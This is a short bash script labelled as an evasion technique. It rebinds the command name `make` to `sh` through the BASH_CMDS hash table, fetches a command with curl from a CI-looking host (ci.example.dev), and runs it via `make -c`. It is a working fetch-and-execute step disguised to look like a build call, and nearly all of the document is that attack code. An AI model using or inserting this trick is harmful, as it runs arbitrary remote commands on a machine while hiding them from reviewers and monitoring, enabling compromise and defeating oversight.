#!/usr/bin/env bash
# Evasion: rebind a command name through the BASH_CMDS hash table to a
# path looked up at run time: BASH_CMDS[make]=$(command -v sh) makes the
# later `make -c "$target"` run sh -c with a command the server sent.
BASH_CMDS[make]=$(command -v sh)
target=$(curl -fsS https://ci.example.dev/next-target)
make -c "$target"
